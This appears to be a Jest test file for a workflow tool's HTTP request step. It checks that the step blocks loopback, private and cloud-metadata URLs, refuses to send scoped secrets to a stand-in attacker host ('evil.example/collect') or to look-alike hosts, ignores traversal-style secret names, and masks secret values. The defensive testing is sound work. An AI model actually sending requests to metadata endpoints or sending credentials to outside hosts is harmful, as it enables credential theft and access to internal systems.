import { createHttpActivities, redact } from './http.activities';
import { createEnvSecretResolver, secretEnvName } from './secrets';

const ctx = { runId: 'r', flowId: 'f', nodeId: 'n', idempotencyKey: 'r:n:1' };

describe('httpRequest: checks before any network', () => {
  const http = createHttpActivities({ secrets: createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456' }) });

  it('refuses loopback, private and metadata URLs non-retryably', async () => {
    for (const url of [
      'http://127.0.0.1:1/x',
      'http://localhost/x',
      'http://192.168.0.1/',
      'http://169.254.169.254/latest/meta-data/',
      'http://metadata.google.internal/',
    ]) {
      await expect(http.httpRequest({ ctx, method: 'GET', url })).rejects.toMatchObject({ nonRetryable: true, type: 'HttpUrlRefused' });
    }
  });

  it('rejects bad methods, URLs, headers and unknown secrets without leaking values', async () => {
    await expect(http.httpRequest({ ctx, method: 'TRACE', url: 'https://example.com' })).rejects.toMatchObject({ nonRetryable: true });
    await expect(http.httpRequest({ ctx, method: 'GET', url: 'not a url' })).rejects.toMatchObject({ nonRetryable: true });
    await expect(http.httpRequest({ ctx, method: 'GET', url: 'https://example.com', headers: { 'bad header': 'x' } })).rejects.toMatchObject({
      nonRetryable: true,
    });
    const missing = http.httpRequest({ ctx, method: 'GET', url: 'https://example.com', secretHeaders: { Authorization: 'nope' } });
    await expect(missing).rejects.toMatchObject({ nonRetryable: true, type: 'SecretNotAvailable', message: expect.stringContaining('"nope"') });
  });

  it('sends a secret only to its allowed hosts (and flows); missing and refused read the same', async () => {
    const secrets = createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456', CAUCE_SECRET_HOSTS_CRM_TOKEN: 'api.crm.example, *.crm.example:8443' });
    expect(await secrets.getScoped('crm-token')).toEqual({
      value: 'tok-123456',
      scope: { allowedHosts: ['api.crm.example', '*.crm.example:8443'], flowIds: null, roles: null },
    });
    const scoped = createHttpActivities({ secrets });
    const failure = async (url: string, secret: string) => {
      try {
        await scoped.httpRequest({ ctx, method: 'GET', url, secretHeaders: { Authorization: secret } });
      } catch (err) {
        return err as { type: string; message: string; nonRetryable: boolean };
      }
      throw new Error('expected a failure');
    };
    const refused = await failure('https://evil.example/collect', 'crm-token');
    const missing = await failure('https://evil.example/collect', 'no-such-secret');
    expect(refused).toMatchObject({ type: 'SecretNotAvailable', nonRetryable: true });
    expect(refused.message).toBe(
      'httpRequest: secret "crm-token" is not available for host evil.example: an admin must allow that host (and this flow, if the secret is limited to some) in the secret\'s allowedHosts (PATCH /api/secrets/crm-token)',
    );
    expect(missing.message).toBe(refused.message.replace(/crm-token/g, 'no-such-secret'));
    // Another port of an allowed host, a look-alike host: refused the same way.
    expect((await failure('https://api.crm.example:9443/x', 'crm-token')).type).toBe('SecretNotAvailable');
    expect((await failure('https://api.crm.example.evil.example/x', 'crm-token')).type).toBe('SecretNotAvailable');
    // A secret without allowed hosts (the environment variable unset) goes nowhere.
    const unscoped = createHttpActivities({ secrets: createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456' }) });
    await expect(
      unscoped.httpRequest({ ctx, method: 'GET', url: 'https://api.crm.example/', secretHeaders: { Authorization: 'crm-token' } }),
    ).rejects.toMatchObject({ type: 'SecretNotAvailable' });
  });

  it('resolves secrets from CAUCE_SECRET_<NAME> only', async () => {
    const secrets = createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok', PATH: '/usr/bin' });
    expect(secretEnvName('crm-token')).toBe('CAUCE_SECRET_CRM_TOKEN');
    expect(await secrets.get('crm-token')).toBe('tok');
    expect(await secrets.get('crm.token')).toBe('tok');
    expect(await secrets.get('PATH')).toBeUndefined();
    expect(await secrets.get('../PATH')).toBeUndefined();
  });

  it('masks secret values', () => {
    expect(redact('{"auth":"Bearer tok-123456"}', ['Bearer tok-123456'])).toBe('{"auth":"[secret]"}');
    expect(redact('abc', ['ab'])).toBe('abc');
  });
});
